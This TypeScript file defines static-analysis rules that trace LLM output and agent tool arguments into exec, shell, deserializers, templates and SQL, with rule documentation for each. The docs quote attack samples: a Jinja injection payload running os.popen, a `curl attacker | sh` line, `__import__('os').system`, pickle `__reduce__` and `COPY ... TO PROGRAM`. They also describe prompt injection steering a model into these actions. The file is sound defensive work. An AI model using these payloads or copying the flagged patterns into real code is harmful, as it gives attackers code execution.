/**
 * AIS280-282: model output reaching code execution, a shell or a code-running deserializer, in Python
 * and JS/TS. One taint pass per file (`shared/taint`) reports under the rule that matches the sink.
 */
import { defineRuleFamily, type AstContext, type RuleMeta } from '../../../engine/rule';
import type { FlowStep } from '../../../engine/finding';
import { analyzeTaint } from '../../shared/taint/engine';
import { MODEL_OUTPUT_SOURCE_TEXT } from '../../shared/taint/model-output-names';
import { jinjaSandboxFix } from '../../shared/taint/template-fix';
import type { SinkKind, TaintFinding } from '../../shared/taint/types';
import { sinkCombine } from '../../shared/sink-combine';

const FILE_KINDS = ['python', 'javascript', 'typescript', 'tsx'] as const;
const REFERENCES_TAIL = [
  'https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/',
  'https://nvd.nist.gov/vuln/detail/CVE-2024-5565',
  'https://nvd.nist.gov/vuln/detail/CVE-2025-1497',
];
const USE_INSTEAD_COMMON =
  '# 1. Ask the model for data, not code, and parse it:\nargs = json.loads(reply)            # or ast.literal_eval for Python literals\n\n# 2. Dispatch through an allow-list of functions you wrote:\nACTIONS = {"summarize": summarize, "search": search}\nresult = ACTIONS[args["action"]](**args["params"])\n\n# 3. If generated code must run, run it in a sandbox (separate process or container,\n#    no network, resource limits) after a human confirmed it.\n';

const CODE: RuleMeta = {
  id: 'AIS280',
  name: 'llm-output-code-execution',
  title: 'LLM output executed as code',
  category: 'code-execution',
  fileKinds: FILE_KINDS,
  severity: 'error',
  confidence: 'high',
  cwe: ['CWE-94', 'CWE-95', 'CWE-1426'],
  message: 'code returned by an LLM ({{source}}) reaches `{{sink}}`',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Follows the reply of an LLM call (OpenAI `chat.completions.create`/`responses.create`, Anthropic `messages.create`, LangChain `invoke`/`run`/`predict`, Ollama `chat`/`generate`, Hugging Face `pipeline(...)(prompt)`, `InferenceClient`, `tokenizer.decode`, LiteLLM, Gemini `generate_content`, the Vercel AI SDK `generateText`) through assignments, attribute and subscript reads, f-strings, `%`, `.format`, `+`, template literals, string methods, regex extraction, streaming loops, `await`, `.then` callbacks and small helpers in the same file, and reports when it reaches code execution: Python `exec`, `eval`, `compile`, `runpy`, `importlib.import_module`, `pandas.eval`/`DataFrame.query`, LangChain `PythonREPL().run`; JS `eval`, `new Function`, string timers, `vm.*`, `vm2`, dynamic `require`/`import()`. Model output written to a file (`open(p, "w").write`, `Path.write_text`, `fs.writeFile`) and then run by a command naming that file or a name holding its path (`python generated.py`, `runpy.run_path(target)`), read back into a sink (`exec(open(p).read())`) or loaded as a module (`importlib.util.spec_from_file_location(name, p)`) counts too, and so does model output an object keeps (`env.update_codes(reply)`) when its class writes what it kept to files and runs a program file (`python3 main.py`), as ChatDev\'s `ChatEnv` does with the code its agents write (the finding sits at the call that hands the reply over). A generator yields to its caller as a function returns (a streaming wrapper of a model call is a source where it is iterated). Containers carry what is put in them: a message dict holding the reply appended to a list (`messages.append`, `push`) or added to an entry in place (`messages[-1]["content"] += chunk`) makes the loop variable over that list model output. CAMEL agents (`session.step(msg)`, when the file imports `camel`) are sources. **Receivers whose class is decided at run time**: a method called on an object made by a factory (`handler = get_handler(kind); handler.handle(reply)`, the factory in this file or another module) or picked from a registry of classes or instances (`LANGUAGES[name]().run(code)`, `HANDLERS.get(kind, Default).run(code)`) applies that method of every class the factory or registry can give, so the flow is reported when any of them runs its argument. A collection of tool instances handed to its constructor (`ToolCollection(ComputerTool(), BashTool())`, keeping `{tool.name: tool for tool in tools}`) whose method calls the entry the model named with the model\'s input (`collection.run(name=block.name, tool_input=block.input)`) applies the called method (`__call__`, `run`) of every instance given. **Across modules of the project**: a function or method of another module that returns model output, passes a parameter on, or hands a parameter to a sink is followed through its summary (imported by name, as `module.function`, re-exported by a package `__init__.py`, or a method of an instance whose class is imported, as in LangChain\'s `self.bash_process.run(commands)` with `bash_process: BashProcess`, or of an object such an instance holds: `agent.computer.run(code)` where the agent\'s module keeps `self.computer = Computer(self)`), or of an object typed with an abstract class of the project (`sql_runner: SqlRunner` given to a tool\'s constructor), whose subclasses in other modules (`class SqliteRunner(SqlRunner)`, the base resolved through their imports) each may be the one that runs; the finding sits at the call and names the other file and line. A file that names no model, SDK or tool is analysed too when it has a sink and a module it imports (or a module that one imports, such as a package `__init__.py` re-exporting the helper) asks a model: `from .drafts import draft_code` then `exec(draft_code(task))`. Functions of another module registered here as tools are reported at the registration. Methods of an object named `llm` (`self.llm.invoke`, `run`, `ask`/`aask`, `generate`, `predict`, also when it is typed with a model wrapper of the project whose method reaches the model only through methods its subclasses implement) return model output. Text helpers of the project judged by name (`CodeParser.parse_code(text=rsp)`) pass on what they are given by position or by keyword. Helpers imported from elsewhere without a summary whose names say they ask a model (`get_completion`, `ask_llm`, `generate_code`, `submit_prompt`, also an abstract method of that name) are sources at medium confidence. Model text also comes from agent objects: the input of a LangChain output parser\'s `parse`, `output_parser.parse(text)` of a chain, `AgentAction.tool_input` and the `function.arguments` of a tool call the model requested. **Tool arguments** are sources too: every parameter of a function registered as an agent tool is chosen by the model: LangChain `@tool`, `StructuredTool.from_function(func=f)`, `Tool(func=f)` and `BaseTool._run`/`_arun`; the OpenAI Agents SDK `@function_tool`; smolagents `@tool` and `Tool.forward`; CrewAI `@tool` and `BaseTool._run`; LlamaIndex `FunctionTool.from_defaults(fn=f)`; Pydantic AI `@agent.tool`/`tool_plain`; MCP `@mcp.tool()`, `add_tool` and `@server.call_tool()`; AutoGen 0.2/AG2 `register_function(f, ...)` and `@agent.register_for_execution()`; a function named in `tools=[...]` of `create_agent`, `create_react_agent`, `ToolNode`, Pydantic AI `Agent`, LlamaIndex and AutoGen agents, DSPy `ReAct` and google-genai `GenerateContentConfig` (automatic function calling); in TS, MCP `server.tool(...)`/`registerTool(...)`/`setRequestHandler(CallToolRequestSchema, ...)`, the Vercel AI SDK `tool({ execute })` and LangChain.js `tool(fn)`, `DynamicStructuredTool` and `StructuredTool._call`. Registration is resolved through imports; parameters the framework injects (`self`, `run_manager`, `config`, `RunContext`/`Context` parameters, the handler\'s second argument in TS) and parameters typed `int`/`float`/`bool` are not tainted. LLM-app sinks have their own messages: Jupyter `KernelClient.execute`, IPython `run_cell`, `code.InteractiveInterpreter.runsource`/`runcode` and `InteractiveConsole.push`, code written to the stdin of a `python`/`node`/`bash`/`pwsh` process (`proc.stdin.write`, also of a process the class keeps: `self.process = Popen([...])`, `self._process = await asyncio.create_subprocess_shell(self.command)` with `command = "/bin/bash"` declared once in the class body, `this.process = spawn("python3", ["-i"])`, `communicate(input=...)`, `subprocess.run(argv, input=...)`, pexpect `sendline`), `sympy.sympify`/`parse_expr`, `numexpr.evaluate` (a warning unless `sanitize=False`), `pandas.eval` and `DataFrame.eval`/`query` (receivers created by pandas or named as DataFrames), and module names given to `importlib.import_module`/`__import__`/`require`/`import()` (a warning). The finding carries the path from the model call to the sink.\n\n**Mitigations.** The flow ends at `ast.literal_eval`, numeric conversions, a parsed JSON object passed whole, and an allow-list check that guards the sink (`if x in ALLOWED:`, `if x not in ALLOWED: raise`, `ALLOWED.includes(x)`, equality with a literal). A human confirmation right before the sink (`if input("Run? [y/N]") == "y":`, or up to three statements after `if answer != "y": return`, not counting checks that only stop, such as `assert` or `if not started: raise`; also `click.confirm`, `typer.confirm`, `Confirm.ask`, `confirm()`) lowers the finding to a warning; a condition with `or` (an `auto_run` flag that skips the question) does not. Text put inside a string literal of the generated code (`exec(f"print(\'{text}\')")`) after the literal\'s delimiter and unpaired backslashes were removed from it (`.replace("\'", "")`, `re.sub(r"[\'\\\\]", "", t)`; backslashes doubled or `.encode("unicode_escape")` count as paired) cannot leave the literal and is not reported; removing another quote than the delimiter, an f-string or template literal in the generated code, or a value placed after another interpolated value still is. Regex or keyword blacklists, homemade `safe_eval` helpers, `exec(code, {})` without `__builtins__`, separate processes and timeouts are not mitigations.',
    whyIsThisBad: 'Whatever the model returns is controlled by whoever controls any part of its input: the user, a retrieved web page, a document, an email or a tool result can carry a prompt injection that makes the model answer with `__import__("os").system(...)`. Executing the reply hands that person the process (CVE-2024-5565 in Vanna, CVE-2025-1497 in PlotAI). No peer tool tracks model output as a taint source.',
    example: 'reply = client.chat.completions.create(model="gpt-4o", messages=messages)\ncode = reply.choices[0].message.content\nexec(code)\n',
    useInstead: USE_INSTEAD_COMMON,
    references: ['https://cwe.mitre.org/data/definitions/94.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
  },
};

const COMMAND: RuleMeta = {
  id: 'AIS281',
  name: 'llm-output-command-execution',
  title: 'LLM output run as a shell command',
  category: 'code-execution',
  fileKinds: FILE_KINDS,
  severity: 'error',
  confidence: 'high',
  cwe: ['CWE-78', 'CWE-1426'],
  message: 'a command built from LLM output ({{source}}) reaches `{{sink}}`',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Follows LLM replies (the same sources and propagation as AIS280) into command execution: Python `os.system`, `os.popen`, `subprocess.*` (a string with `shell=True`, or the program of an argv list; other argv entries are a warning, and `shlex.quote` lowers the severity), `asyncio.create_subprocess_shell`/`_exec`, `os.exec*`, LangChain `ShellTool`/`BashProcess`; JS `child_process.exec`/`execSync`, `spawn`/`execFile` (program, `shell: true` arguments, `sh -c` code), `shelljs.exec`, `execa`. Tool arguments are sources (see AIS280). An argument after a code flag of an interpreter (`osascript -e`, `powershell -Command`, `python -c`, `node -e`, `bash -c`, `Rscript -e`) is an error, and so is a package name given to `pip`/`uv`/`npm`/`yarn`/`pnpm`/`poetry`/`conda` `install`/`add` (argv or command line), with its own message. Mitigations are those of AIS280, including text kept inside a string literal it cannot leave (its delimiter and unpaired backslashes removed): a shell `\'...\'` string, or an AppleScript `"..."` string given to `osascript -e` (a shell `"..."` string is not one: `$(...)` and backticks still run), plus `shlex.quote` (lowers the severity) and sandbox launchers (`docker run ...`), where only the launcher\'s own arguments count.',
    whyIsThisBad: 'An agent that runs the commands its model proposes gives a shell to anyone who can steer the model: a prompt injection in a web page, an issue, a file or a tool result turns into `curl attacker | sh` with the rights of the agent, its credentials and its network.',
    example: 'const res = await openai.chat.completions.create({ model, messages });\nexecSync(res.choices[0].message.content);\n',
    useInstead: '# Map model intents to commands you wrote, never run its text:\nCOMMANDS = {"list": ["ls", "-l"], "status": ["git", "status"]}\nargv = COMMANDS.get(intent)\nif argv is None:\n    raise ValueError(intent)\nsubprocess.run(argv, check=True)            # no shell\n# When free-form commands are the product, run them in a disposable sandbox after human approval.\n',
    references: ['https://cwe.mitre.org/data/definitions/78.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
  },
};

const DESERIALIZATION: RuleMeta = {
  id: 'AIS282',
  name: 'llm-output-deserialization',
  title: 'LLM output deserialized with a code-running loader',
  category: 'code-execution',
  fileKinds: FILE_KINDS,
  severity: 'error',
  confidence: 'high',
  cwe: ['CWE-502', 'CWE-1426'],
  message: 'data returned by an LLM ({{source}}) reaches `{{sink}}`, which runs code embedded in it',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Follows LLM replies (the same sources and propagation as AIS280) into deserializers that can run code: `pickle`/`dill`/`cloudpickle`/`marshal` loads, `jsonpickle.decode`, `yaml.unsafe_load`/`full_load`, `joblib.load`, `torch.load`, `numpy.load`, and JS `node-serialize` `unserialize` or `serialize-to-js` `deserialize`.',
    whyIsThisBad: 'Models can be made to emit any bytes, for example a base64 pickle whose `__reduce__` calls `os.system`. Loading such output with a code-running deserializer executes it during the load.',
    example: 'blob = llm.invoke(prompt).content\nstate = pickle.loads(base64.b64decode(blob))\n',
    useInstead: 'state = json.loads(llm.invoke(prompt).content)   # plain data\nvalidate(state)                                    # check the shape before use\n',
    references: ['https://cwe.mitre.org/data/definitions/502.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
  },
};

const TEMPLATE: RuleMeta = {
  id: 'AIS283',
  name: 'llm-output-template-injection',
  title: 'LLM output compiled as a template',
  category: 'code-execution',
  fileKinds: FILE_KINDS,
  severity: 'error',
  confidence: 'high',
  cwe: ['CWE-1336', 'CWE-94', 'CWE-1426'],
  message: 'a template written by an LLM ({{source}}) is compiled by `{{sink}}`',
  fixAvailability: 'sometimes',
  docs: {
    whatItDoes: 'Follows LLM replies and tool arguments (the same sources and propagation as AIS280) into template engines that compile their input: `jinja2.Template(t)`, `jinja2.Environment(...).from_string(t)` and Flask `render_template_string(t)` in Python; `ejs.render`/`ejs.compile`, `pug.compile`/`pug.render`, `lodash.template`, `nunjucks.renderString` and `doT.template` in JS/TS. A `jinja2.sandbox.SandboxedEnvironment`/`ImmutableSandboxedEnvironment` ends the flow: its `from_string` is not a sink.',
    whyIsThisBad: 'A template is a program: Jinja expressions reach Python objects (`{{ cycler.__init__.__globals__.os.popen("id").read() }}`), and EJS, Pug and lodash templates compile to JavaScript. A model steered by a prompt injection, or a model file that ships its own chat template (CVE-2024-34359 in llama-cpp-python), turns template rendering into code execution.',
    example: 'layout = llm.invoke("Write a Jinja template for the report").content\nhtml = jinja2.Environment().from_string(layout).render(data=data)\n',
fixSafety: 'For Jinja in Python, the fix swaps `jinja2.Environment` for `jinja2.sandbox.SandboxedEnvironment` where the environment is created (a subclass taking the same arguments), or turns `jinja2.Template(t)` into `jinja2.sandbox.SandboxedEnvironment().from_string(t)`, adding `import jinja2.sandbox`. It is unsafe: a template that relied on reaching Python internals stops working, which is the point; review templates that call methods of the objects they render.',
        useInstead: 'from jinja2.sandbox import ImmutableSandboxedEnvironment\n\nenv = ImmutableSandboxedEnvironment()    # blocks attribute access to internals\nhtml = env.from_string(layout).render(data=data)\n# Better still: let the model fill values into a template you wrote.\n',
    references: ['https://cwe.mitre.org/data/definitions/1336.html', 'https://jinja.palletsprojects.com/en/stable/sandbox/', 'https://nvd.nist.gov/vuln/detail/CVE-2024-34359', ...REFERENCES_TAIL.slice(0, 1)],
  },
};

const SQL: RuleMeta = {
  id: 'AIS284',
  name: 'llm-output-sql-execution',
  title: 'SQL written by an LLM executed',
  category: 'code-execution',
  fileKinds: FILE_KINDS,
  severity: 'warning',
  confidence: 'medium',
  cwe: ['CWE-89', 'CWE-1426'],
  message: 'SQL written by an LLM ({{source}}) is executed by `{{sink}}`',
  fixAvailability: 'none',
  docs: {
    whatItDoes: 'Follows LLM replies and tool arguments (the same sources and propagation as AIS280) into SQL execution: DB-API `cursor.execute`/`executemany`/`executescript` and connection `execute` (receivers created by a driver\'s `connect()` or `.cursor()`, or named `cursor`/`cur`/`conn`/`db` in a file that imports a driver), SQLAlchemy `text(sql)` and `exec_driver_sql`, `pandas.read_sql`/`read_sql_query`, DuckDB `duckdb.sql`/`query`/`execute`, LangChain `SQLDatabase.run`/`run_no_throw` (the database its SQL chains and agents run model-written queries on: made by `SQLDatabase(...)`/`SQLDatabase.from_uri(...)`, or a class attribute declared `database: SQLDatabase`), and Prisma `$queryRawUnsafe`/`$executeRawUnsafe`. It is a warning: text-to-SQL is a product feature, and the risk depends on what the connection may do. A cursor of a connection opened read-only (`sqlite3.connect("file:db?mode=ro", uri=True)`, DuckDB `read_only=True`, PostgreSQL `default_transaction_read_only`) is not reported; other mitigations are those of AIS280 (allow-lists; a confirmation prompt lowers nothing further, the finding is already a warning).',
    whyIsThisBad: 'When the model writes the whole query, parameters cannot protect it: a prompt injection in the question or in retrieved data can make the model read other tables, `DROP` them, or call functions of the database that reach files and programs (`COPY ... TO PROGRAM`, `load_extension`). Text-to-SQL CVEs in LLM frameworks (CVE-2024-5565 in Vanna, LangChain\'s SQL chains) follow this shape.',
    example: 'sql = llm.invoke(f"Write SQL for: {question}").content\ncursor.execute(sql)\n',
    useInstead: '# Run model-written SQL only on a read-only connection to a restricted role:\nconn = psycopg.connect(READONLY_DSN, options="-c default_transaction_read_only=on")\n# or let the model pick a query you wrote and fill its parameters:\nQUERIES = {"sales_by_month": "SELECT month, sum(total) FROM sales WHERE year = %s GROUP BY month"}\ncursor.execute(QUERIES[choice["query"]], (choice["year"],))\n',
    references: ['https://cwe.mitre.org/data/definitions/89.html', 'https://cwe.mitre.org/data/definitions/1426.html', ...REFERENCES_TAIL],
  },
};

const RULE_OF: Record<SinkKind, RuleMeta> = { code: CODE, command: COMMAND, deserialization: DESERIALIZATION, template: TEMPLATE, sql: SQL };

/**
 * Prefilter: a file must mention an LLM SDK, an LLM HTTP endpoint, a distinctive SDK call shape or a
 * helper named after a model; substrings cover several spellings at once (`penai` for `openai`/`OpenAI`,
 * `ompletion` for `completions`/`ChatCompletion`/`get_completion`). `SINK_KEYWORDS` must match too, and a
 * sink-call gate in the analysis skips files without a dynamic sink call before any data flow is computed.
 */
const SOURCE_KEYWORDS = [
  'penai', 'penAI', 'nthropic', 'langchain', 'langgraph', 'llama', 'transformers', 'genai', 'generative', 'litellm', 'cohere', 'mistral', 'groq', 'huggingface', 'bedrock', 'vllm', 'gpt4all', 'deepseek', 'openrouter',
  "'ai'", '"ai"', '/api/generate', '/api/chat', '/v1/', '11434',
  'ompletion', 'messages.create', 'messages.stream', 'responses.create', 'responses.parse', 'generate_content', 'generateContent', 'text_generation', 'textGeneration', 'invoke_model',
  // Functions registered as agent tools (`@tool`, `@mcp.tool()`, `registerTool`, `tool({ execute })`).
  // Specific shapes only: `Tool` and `.tool` alone match most files of agent frameworks.
  '@tool', 'tool(', '.tool\n', '.tool\r', 'Tool(', 'Tool)', 'extends Tool', 'BaseTool', 'StructuredTool', 'DynamicTool', 'registerTool', 'CallToolRequestSchema', 'call_tool', 'add_tool',
  'tools=', 'tool_plain', 'function_tool', 'kernel_function', 'register_for_execution', 'register_function',
  // Tool classes that give the model their own argument schema, whatever their base (`get_args_schema()`, `args_schema`).
  'args_schema',
  'llm', 'LLM', 'Llm', 'gpt', 'GPT', 'laude', 'emini', 'enerate_code', 'enerateCode', 'rite_code', 'enerate_command', 'enerateCommand', 'enerate_script', 'enerateScript',
  // CAMEL agents (`session.step(msg)`; `FRAMEWORK_IMPORTS.camel` in the sources).
  'from camel', 'import camel',
];
/** Second prefilter group: the file must also mention a sink (checked together with the keywords, before parsing). */
const SINK_KEYWORDS = [
  // Sink call shapes rather than bare words: `torch`, `numpy`, `compile`, `Function` and `Script` name
  // everyday things in ML code (torch.compile, autograd.Function, TorchScript) and made nearly every file pass.
  'exec', 'eval(', 'compile(', 'system(', 'import system', 'popen', 'subprocess', 'child_process', 'spawn', 'Function(', 'runIn', 'vm.Script', 'new Script', 'vm2',
  'pickle', 'dill', 'marshal', 'unsafe_load', 'full_load', 'joblib', 'load(', 'import load', 'unserialize', 'deserialize', 'shelljs',
  'import_module', '__import__', 'runpy', 'setTimeout', 'setInterval', 'setImmediate', 'PythonREPL', 'ShellTool', 'BashProcess', '.query(', 'run_cell', 'pexpect',
  // LLM-app sinks (guide §2): kernels and consoles, interpreter stdin, evaluators, templates, SQL, module loading.
  // Module names rather than method names where the method is common (`push`, `Template`, `template`).
  '.execute(', '.executemany(', '.executescript(', 'execute_interactive', 'exec_driver_sql', 'runsource', 'runcode', 'InteractiveConsole', 'stdin', 'communicate', 'sendline',
  'sympy', 'numexpr', 'jinja2', 'render_template_string', '.template(', 'lodash/template', "'ejs'", '"ejs"', "'pug'", '"pug"', 'nunjucks', 'doT',
  'read_sql', 'sqlalchemy', 'duckdb', 'RawUnsafe', 'SQLDatabase',
  // Helpers and objects of the project that run what they are given, defined in another module (their
  // summaries say which parameter reaches a sink there): `self.bash_process.run(cmds)`, `run_code(reply)`.
  'Process', 'Shell', 'shell', 'run_code', 'execute_code', 'run_command', 'execute_command', 'run_python', 'run_script', 'nterpreter', 'xecutor', 'andbox',
  // Functions of another module registered here as tools: their summaries say which argument reaches a sink.
  'from_defaults', 'from_function', 'tools=', 'add_tool', 'register_function',
  // Chat API calls whose reply may go to a helper of another module named anyhow (`run_snippet(reply)`).
  'chat.completions.create', 'messages.create', 'ChatCompletion.create', 'responses.create', 'generateText', 'generateObject', 'streamText',
  // A CAMEL agent's reply handed to an object of another module that saves and runs it (ChatDev's phases).
  'from camel', 'import camel',
];

/** The sinks that run code, commands, templates or SQL: a file whose only sinks deserialize meets model output only from a source of its own. */
const DESERIALIZING = new Set(['pickle', 'dill', 'marshal', 'unsafe_load', 'full_load', 'joblib', 'load(', 'import load', 'unserialize', 'deserialize']);
const RUNNING_SINK_KEYWORDS = SINK_KEYWORDS.filter((keyword) => !DESERIALIZING.has(keyword));
/** How far the imports of a file that names no model are read for a source (see the checker). */
const IMPORTED_SOURCE_LEVELS = 3;

export default defineRuleFamily(
  [CODE, COMMAND, DESERIALIZATION, TEMPLATE, SQL],
  [
    {
      kind: 'ast',
      name: 'llm-output-execution',
      ruleIds: [CODE.id, COMMAND.id, DESERIALIZATION.id, TEMPLATE.id, SQL.id],
      fileKinds: FILE_KINDS,
      keywords: SOURCE_KEYWORDS,
      alsoRequires: SINK_KEYWORDS,
      onFile(ctx) {
        for (const finding of analyzeTaint(ctx)) report(ctx, finding);
      },
    },
    {
      // A file that names no model, SDK or tool can still run what a module it imports returns
      // (`from .codegen import draft_code` … `exec(draft_code(task))`): it is analysed when a sink that runs
      // code is here and a module it imports, or one of theirs (a package's `__init__.py` re-exporting the
      // helper), has source text (read without parsing); never when the host cannot tell. Three levels reach a
      // reply handed on by two helper modules that never call a model (drafts → cleanup → relay → here) and
      // keep the cost small in ML libraries full of `exec` and `subprocess`; a reply handed on through more
      // modules before this file is not looked for here (a known limit of this checker).
      kind: 'ast',
      name: 'llm-output-execution-imported',
      ruleIds: [CODE.id, COMMAND.id, DESERIALIZATION.id, TEMPLATE.id, SQL.id],
      fileKinds: FILE_KINDS,
      keywords: RUNNING_SINK_KEYWORDS,
      // The checker above has the file when it names a source itself (decided from the keyword counts: testing
      // each source word on the whole text cost an open document 4-28 ms per keystroke in large files).
      absentKeywords: SOURCE_KEYWORDS,
      // Decided before parsing.
      textGate: (ctx) => ctx.ports?.project?.importClosureMatches?.(ctx.path, MODEL_OUTPUT_SOURCE_TEXT, IMPORTED_SOURCE_LEVELS) === true,
      onFile(ctx) {
        for (const finding of analyzeTaint(ctx)) report(ctx, finding);
      },
    },
  ],
);

function report(ctx: AstContext, f: TaintFinding): void {
  const rule = RULE_OF[f.match.kind];
  const source = f.trace.description ?? `\`${f.trace.sourceLabel}\`, line ${f.trace.sourceLine}`;
  const quoted = f.match.kind === 'command' && f.trace.quoted;
  const severity = quoted || f.confirmed ? 'warning' : f.arg.severity;
  const role = f.arg.why ? ` as ${f.arg.why}` : '';
  const base = rule.message.replace('{{source}}', source).replace('{{sink}}', f.match.label);
  const softened = [
    quoted ? 'quoted with shlex.quote, which limits but does not remove the risk' : undefined,
    f.confirmed ? 'after a confirmation prompt, which lowers but does not remove the risk' : undefined,
  ].filter(Boolean);
  const message = `${base}${role}${softened.length > 0 ? ` (${softened.join('; ')})` : ''}${f.match.note ? `: ${f.match.note}` : ''}`;
  const flow: FlowStep[] = [
    ...f.trace.steps.map((s) => (s.elsewhere ? { range: s.elsewhere.range, message: s.message, path: s.elsewhere.path } : { range: ctx.rangeOfNode(s.node), message: s.message })),
    { range: ctx.rangeOfNode(f.sink), message: `reaches \`${f.match.label}\`${role}` },
  ];
  // A fix only where the sink is in this file (not a helper of another module) and a safe replacement exists.
  const fix = f.match.kind === 'template' && f.match.args.length > 0 ? jinjaSandboxFix(ctx, f.sink, f.match.label) : undefined;
  ctx.report({
    ruleId: rule.id,
    range: ctx.rangeOfNode(f.sink),
    message,
    severity,
    confidence: severity === 'warning' || f.trace.heuristic ? 'medium' : 'high',
    flow,
    ...(fix ? { fixes: [fix] } : {}),
    properties: { source: f.trace.sourceLabel, sourceLine: f.trace.sourceLine, sink: f.match.label },
    // When the sink's own rule reports the same call, one finding leads (the more severe); this clause keeps
    // the model-output flow, and a softening such as a confirmation prompt, in the combined message.
    combine: sinkCombine(`LLM output (${source}) reaches it${softened.length > 0 ? ` (${softened.join('; ')})` : ''}`),
  });
}
